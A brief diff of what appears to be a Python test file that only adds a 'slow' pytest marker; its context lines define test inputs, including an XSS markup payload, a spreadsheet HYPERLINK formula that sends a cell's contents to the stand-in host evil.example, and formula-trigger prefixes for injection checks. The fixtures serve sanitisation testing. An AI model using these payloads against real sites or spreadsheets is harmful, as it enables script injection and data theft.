@@ -16,7 +16,7 @@ MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 FORMULA_STARTS = ("=", "+", "@", "\t", "\r")
 
-pytestmark = pytest.mark.xdist_group("prefect")
+pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("prefect")]
 
 
 class Page(HTMLParser):
